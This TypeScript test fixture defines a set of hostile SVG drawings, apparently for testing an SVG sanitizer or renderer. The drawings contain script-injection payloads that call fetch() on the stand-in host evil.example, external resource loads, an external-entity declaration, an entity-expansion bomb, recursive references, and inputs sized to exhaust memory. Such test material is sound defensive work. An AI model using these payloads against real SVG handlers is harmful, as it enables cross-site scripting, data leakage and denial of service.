const evil = 'https://evil.example/';
const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"${more}><rect width="40" height="30" fill="#fff"/>${inside}</svg>`;
const million = 1_000_000;

/** Drawings in SVG that want to run, to fetch, to hide something or to take all time and memory. */
export const hostileDrawings: Readonly<Record<string, () => string>> = {
  scripts: () =>
    svg(
      `<script>fetch('${evil}1')</script><script href="${evil}2.js"/><a href="javascript:fetch('${evil}3')" onclick="fetch('${evil}4')"><rect width="9" height="9" onload="fetch('${evil}5')"/></a>`,
      ` onload="fetch('${evil}6')"`,
    ),
  'pictures from elsewhere': () =>
    svg(
      `<image href="${evil}1.png" width="9" height="9"/><image xlink:href="data:image/svg+xml,%3Csvg onload=x%3E"/><feImage href="${evil}2.png"/><use href="${evil}3.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`,
    ),
  'addresses in looks': () =>
    svg(
      `<rect width="9" height="9" fill="url(${evil}1#a)" style="fill:url(${evil}2); stroke: url('${evil}3'); background: url(${evil}4); mask: url(${evil}5)" filter="url(${evil}6#f)" clip-path="url(${evil}7#c)" cursor="url(${evil}8),auto"/><text style="font: 10px url(${evil}9)" fill="\u202ered">x</text>`,
    ),
  'style sheets': () =>
    `<?xml-stylesheet href="${evil}0.css"?>${svg(`<style>@import "${evil}1.css"; @font-face{font-family:a;src:url(${evil}2)} rect{fill:url(${evil}3)}</style><style><![CDATA[*{fill:none}]]></style><link rel="stylesheet" href="${evil}4"/><font-face-uri href="${evil}5"/>`)}`,
  'a page in it': () =>
    svg(
      `<foreignObject width="40" height="30"><iframe src="${evil}1"/><body xmlns="http://www.w3.org/1999/xhtml"><img src="${evil}2" onerror="fetch('${evil}3')"/><form action="${evil}4"><button>go</button></form></body></foreignObject><iframe src="${evil}5"/><embed src="${evil}6"/>`,
    ),
  animations: () =>
    svg(
      `<rect width="9" height="9"><animate attributeName="href" values="${evil}1"/><set attributeName="onload" to="fetch('${evil}2')"/></rect><animateMotion path="M0 0" repeatCount="indefinite"/><discard begin="0s"/>`,
    ),
  'text that is markup': () =>
    svg(
      "<text>&lt;script>alert(1)&lt;/script> &amp;lt; ]]&gt; \u0000\u0008\ufffe \ud800 🙂</text><text fill='\"/><script>'>y</text>",
    ),
  'entities without end': () =>
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x SYSTEM "${evil}1">]>${svg('<text>&b;&x;</text>')}`,
  'copies of copies': () => {
    const layers = Array.from(
      { length: 20 },
      (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`,
    );
    return svg(`<defs><path id="l0" d="M0 0h9v9z"/>${layers.join('')}</defs><use href="#l20"/>`);
  },
  'a copy of itself': () => svg('<g id="a"><use href="#a"/></g><use id="b" href="#b"/>'),
  'a large shape ten thousand times': () =>
    svg(`<defs><path id="a" d="${'M0 0h1'.repeat(100_000)}"/></defs>${'<use href="#a"/>'.repeat(10_000)}`),
  'elements named like parts of programs': () =>
    svg(
      '<constructor/><__proto__ toString="1"/><hasOwnProperty id="__proto__"><use href="#__proto__"/></hasOwnProperty>',
    ),
  'a million shapes': () => svg('<rect width="1" height="1"/>'.repeat(million)),
  'a million layers': () => svg('<g>'.repeat(million)),
  'an attribute of 30 MB': () =>
    svg(`<path d="${'M'.repeat(30 * million)}"/><rect transform="${'('.repeat(million)}"/>`),
  'a size beyond all sizes': () => svg('<rect width="1e300" height="1e300"/>', ' width="1e300" height="0.0001pt"'),
  'no end of anything': () => '<svg viewBox="0 0 40 30"><g><text x="1" y="9">open',
  'half of a tag': () => '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" hei',
};
